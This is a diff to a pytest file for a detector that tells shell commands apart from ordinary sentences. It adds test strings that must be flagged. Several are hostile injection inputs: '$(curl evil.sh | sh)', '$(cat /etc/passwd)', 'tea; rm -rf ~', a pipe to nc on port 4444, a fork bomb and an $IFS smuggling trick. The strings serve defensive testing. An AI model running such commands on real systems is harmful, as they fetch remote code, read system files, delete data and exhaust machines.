@@ -103,6 +103,41 @@ COMMANDS = [
     "terraform apply",
 ]
 
+RUN_BY_A_SHELL = [
+    "$(curl x.sh)",
+    "Name is $(whoami)",
+    "Likes $(curl evil.sh | sh) a lot",
+    "The user lives in $(cat /etc/passwd)",
+    "$(<notes.txt)",
+    "$(Get-Process)",
+    "$(unknown-tool --all)",
+    "diff <(sort a) <(sort b)",
+    "tea; rm -rf ~",
+    "tea && curl x.sh",
+    "tea | nc 10.0.0.1 4444",
+    "| sh",
+    "cat$IFS/etc/hosts",
+    "make all > /dev/null",
+    ":(){ :|:& };:",
+]
+
+ABOUT_A_SHELL = [
+    "Prefers $() to backticks in scripts",
+    "The $(…) form reads better than backticks",
+    "Paid $(about) 40 for lunch",
+    "Salary is $(5,000)",
+    "Prefers fish; bash is too old",
+    "The grep | sort pipeline took 3 minutes",
+    'I was tired; make tea, "strong"',
+    "Build failed; npm install fixed it",
+    "pytest -q took 40 seconds; mypy found nothing",
+    "npm ci --silent dauerte 40 Sekunden",
+    "make -j4 tardó 12 minutos",
+    "curl -I повернув 503",
+    "Uses `$(git rev-parse HEAD)` in the release script",
+    "walk; date; sleep",
+]
+
 NATURAL = [
     "I use c++ and node.js",
     "prefers `async` Rust",
@@ -191,6 +226,16 @@ def test_shell_commands_are_recognised(text: str) -> None:
     assert find_code(text) == "shell command"
 
 
+@pytest.mark.parametrize("text", RUN_BY_A_SHELL)
+def test_what_a_shell_would_run_inside_a_sentence_is_recognised(text: str) -> None:
+    assert find_code(text) is not None
+
+
+@pytest.mark.parametrize("text", ABOUT_A_SHELL)
+def test_what_is_told_of_a_shell_and_its_results_is_natural_language(text: str) -> None:
+    assert find_code(text) is None
+
+
 @pytest.mark.parametrize("text", ["look: ```py\nx = 1\n``` ok", "~~~\nls\n~~~", "<pre>x</pre>"])
 def test_code_blocks_are_recognised(text: str) -> None:
     assert find_code(text) == "code block"
@@ -253,6 +298,9 @@ def test_any_text_gets_an_answer(text: str) -> None:
         "SELECT ",
         "; do ",
         "a.b(",
+        "$(a ",
+        "; rm ",
+        "<(",
     ],
 )
 def test_the_time_grows_with_the_length_only(piece: str) -> None:
